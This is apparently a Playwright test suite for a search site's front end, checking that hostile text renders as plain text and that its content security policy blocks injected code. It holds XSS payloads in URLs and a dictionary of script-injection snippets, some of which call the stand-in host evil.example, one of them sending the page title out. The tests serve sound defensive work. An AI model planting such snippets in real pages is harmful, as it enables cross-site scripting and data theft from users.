"""Text of documents is text on the page, whatever it says."""

from __future__ import annotations

import pytest
from browsing import NARROW, Visit, visiting
from playwright.sync_api import Browser, expect
from serving import Asker
from shown_texts import HOSTILE


def test_hostile_text_is_shown_as_it_is(visit: Visit) -> None:
    page = visit.go("#/search?q=ship+in+the+storm&index=hostile&count=20")
    for name, text in HOSTILE.items():
        if name != "long":
            hit = page.locator(".hit", has=page.locator(f".hit-source[href*='hostile%2F{name}&']"))
            expect(hit.locator(".hit-source")).to_contain_text(text)
            hit.get_by_role("button", name="Cite").click()
            expect(hit.locator(".citation").first).to_contain_text("ship")
            hit.get_by_role("button", name="Similar").click()
            expect(hit.get_by_role("heading", name="Similar passages")).to_be_visible()
    assert page.title() == "semsearch"
    assert page.locator("main").locator("script, img, iframe").count() == 0


def test_words_without_end_are_cut_and_widen_nothing(browser: Browser, asker: Asker) -> None:
    with visiting(browser, asker, size=NARROW) as visit:
        page = visit.go("#/search?q=ship+in+the+storm&index=hostile&count=20")
        expect(page.locator(".hit", has_text="wwwww").first).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert page.locator(".hit", has_text="wwwww").first.evaluate("card => card.clientHeight") < 3 * NARROW[1]


def test_a_hostile_address_is_only_a_question(visit: Visit) -> None:
    visit.expected.append("error: Failed to load resource")
    page = visit.go("#/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&index=%3Cscript%3E&filter=%3Cb%3E")
    expect(page.locator(".chip")).to_contain_text("<b>")
    expect(page.get_by_role("alert")).to_contain_text("there is no index '<script>'")
    assert page.locator("main img, main script, main b").count() == 0


INJECTED = {  # what a page without its policy would run, load or send, if text ever became markup
    "inline": "const s = document.createElement('script'); s.textContent = 'window.harmed = 1'; "
    "document.body.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.harmed = 1\">')",
    "frame": "const f = document.createElement('iframe'); f.src = 'javascript:parent.harmed = 1'; "
    "document.body.append(f)",
    "eval": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.harmed=1'; "
    "document.body.append(s)",
    "picture": "new Image().src = 'https://evil.example/' + document.title",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"background: url(https://evil.example)\">')",
    "sheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/a.css'; "
    "document.head.append(l)",
    "fetch": "fetch('https://evil.example').catch(() => 0)",
    "form": "document.body.insertAdjacentHTML('beforeend', '<form action=https://evil.example><button>'); "
    "document.querySelector('form[action]').requestSubmit()",
    "base": "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
}


def test_what_got_into_the_page_all_the_same_runs_loads_and_sends_nothing(visit: Visit) -> None:
    visit.expected += ["error: ", "warning: ", "request: https://evil.example"]  # what its policy forbids
    page = visit.go("#/search?index=docs")
    refused = "addEventListener('securitypolicyviolation', () => resolve()); setTimeout(reject, 30_000);"
    for name, harm in INJECTED.items():
        page.reload()  # without what was injected before
        expect(page.get_by_role("searchbox")).to_be_focused()
        page.evaluate(f"() => new Promise((resolve, reject) => {{ {refused} {harm} }})")
        assert page.evaluate("window.harmed") is None, name
        assert page.url.startswith(visit.url), name


@pytest.mark.usefixtures("maps_in_few_steps")
def test_hostile_titles_are_text_on_the_map_and_in_the_source(visit: Visit, asker: Asker) -> None:
    assert asker.post("/v1/map", {"index": "hostile"}).status == 200
    page = visit.go("#/map?index=hostile")
    expect(page.locator(".map-list li").first).to_be_visible()
    page.get_by_label("Colour by").select_option("document")
    expect(page.locator(".map-groups")).to_contain_text("<script>")
    assert page.locator("main").locator("script, img, iframe, a[href^='javascript']").count() == 0
    for name in ("script", "link"):
        page = visit.go(f"#/document?index=hostile&id=hostile%2F{name}")
        expect(page.locator(".source-text").first).to_contain_text("A ship in the storm")
        assert page.locator("main").locator("script, img, iframe, a[href^='javascript']").count() == 0
    assert page.title() != "harmed"  # what the script would set; as text it is within the title, sooner or later
